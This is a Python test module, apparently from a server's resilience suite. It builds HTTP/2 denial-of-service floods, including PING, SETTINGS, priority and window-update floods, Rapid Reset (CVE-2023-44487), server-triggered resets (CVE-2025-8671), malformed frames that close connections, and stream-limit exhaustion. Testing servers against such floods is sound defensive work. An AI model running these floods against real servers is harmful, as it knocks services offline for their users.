# SPDX-License-Identifier: Apache-2.0
"""Floods of frames that carry nothing, and of those that make the server send some."""

import struct

from support.attacks import Steps, Target, attack
from support.attacks.raw import (
    GREATEST, HEALTH, INITIAL_WINDOW, OPENING, STREAM_SCORE_ROWS, WATCH, Raw, call, flood,
    flood_of_calls, hold, message)
from support.http2_frames import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, RST_STREAM,
    SETTINGS, begun, block, data, frame, headers, literal, priority, reset, setting, window)

TOGETHER = 200
# A call that stays open, for frames that belong to one.
OPEN = OPENING + call(1, STREAM_SCORE_ROWS, end=False)
UNKNOWN_TYPE = 0x42

FLOODS: dict[str, tuple[bytes, bytes]] = {
    "pings": (OPENING, frame(PING, payload=b"12345678")),
    "answers-to-no-ping": (OPENING, frame(PING, ACK, payload=b"12345678")),
    "empty-data": (OPEN, frame(DATA, 0, 1)),
    "padding-alone": (OPEN, frame(DATA, PADDED, 1, b"\xff" + bytes(255))),
    "priorities": (OPENING, priority(3)),
    "priorities-of-many-streams": (OPENING, b"".join(priority(5 + 2 * n, 3) for n in range(50))),
    "windows-of-the-connection": (OPENING, window(0, 1)),
    "windows-of-a-stream": (OPEN, window(1, 1)),
    "unknown-frames": (OPENING, frame(UNKNOWN_TYPE, 0xFF, 1, b"anything")),
    "settings": (OPENING, setting()),
    "long-settings": (OPENING, setting(*[(INITIAL_WINDOW, n) for n in range(1_000)])),
    "acknowledged-settings": (OPENING, frame(SETTINGS, ACK)),
    "goodbyes": (OPENING, frame(GOAWAY, payload=bytes(8) + b"bye" * 20)),
    "empty-continuations": (
        OPENING + frame(HEADERS, END_STREAM, 1, block()), frame(CONTINUATION, 0, 1)),
    "resets-of-a-closed-stream": (OPENING + headers(1) + reset(1), reset(1)),
}


def add(name: str, opening: bytes, sent: bytes) -> None:
    """Adds a flood."""

    def run(target: Target) -> Steps:
        return flood(target, sent * TOGETHER, TOGETHER, opening=opening)

    run.__module__ = __name__
    attack(name=name)(run)


for each, frames in FLOODS.items():
    add(each, *frames)


@attack()
def empty_frames_between_calls(target: Target) -> Steps:
    """As many as a call makes good, so that the server has no reason to end it."""
    nothing = frame(DATA, 0, 1) + priority(3) + window(1, 1) + setting() + frame(UNKNOWN_TYPE)

    def made(stream: int) -> bytes:
        return nothing + call(stream, HEALTH, message(b""))

    return flood_of_calls(target, made, first=3, opening=OPEN)


@attack()
def calls_reset_at_once(target: Target) -> Steps:
    """Rapid reset (CVE-2023-44487)."""
    return flood_of_calls(target, lambda stream: call(stream, HEALTH, message(b"")) + reset(stream))


# What has the server end a stream by its own RST_STREAM (CVE-2025-8671).
MADE_RESETS = [
    lambda stream: begun(stream) + window(stream, GREATEST),
    lambda stream: begun(stream) * 2,
    lambda stream: begun(stream, ("content-length", "1")) + data(stream, b"more"),
    lambda stream: headers(stream, block() + literal(":other", "x")),
    lambda stream: begun(stream) + reset(stream) + data(stream),
]
# What has it end the connection.
MADE_ENDS = [
    frame(RST_STREAM, 0, 1, bytes(3)), data(0), priority(1, 1), frame(PING, payload=b"short"),
    headers(2), frame(CONTINUATION, END_HEADERS, 1), window(0, 0), window(0, GREATEST),
    setting((INITIAL_WINDOW, GREATEST + 1)), frame(DATA, PADDED, 1, b"\xff"), bytes(9) * 10,
]


@attack()
def resets_that_the_server_makes(target: Target) -> Steps:
    """Made you reset: calls that are begun and at once made wrong."""
    return flood_of_calls(
        target, lambda stream: MADE_RESETS[stream // 2 % len(MADE_RESETS)](stream))


@attack()
def ends_of_connections_that_the_server_makes(target: Target) -> Steps:
    """The same by faults that cost the connection."""
    while True:
        for fault in MADE_ENDS:
            raw = Raw(target, OPEN + fault)
            for _ in range(20):
                if raw.is_over:
                    break
                raw.send(frame(PING, payload=b"12345678"), 0.1)
            raw.close()
            yield 1


@attack()
def one_stream_too_many(target: Target) -> Steps:
    """256 calls that stay open, and further ones without end."""
    watches = OPENING + b"".join(call(1 + 2 * n, WATCH, message(b"")) for n in range(256))
    return flood_of_calls(
        target, lambda stream: call(stream, HEALTH, message(b"")), opening=watches, first=513)


@attack()
def quiet_watches_with_pings(target: Target) -> Steps:
    """Keepalive as often as nobody may be cut for it."""
    watching = OPENING + call(1, WATCH, message(b""))
    raws = [Raw(target, watching) for _ in range(50)]
    steps = hold(*raws)
    while True:
        for number, raw in enumerate(raws):
            assert raw.send(frame(PING, payload=struct.pack(">Q", number))), "a watch was cut"
        yield len(raws)
        for _ in range(11):
            next(steps)
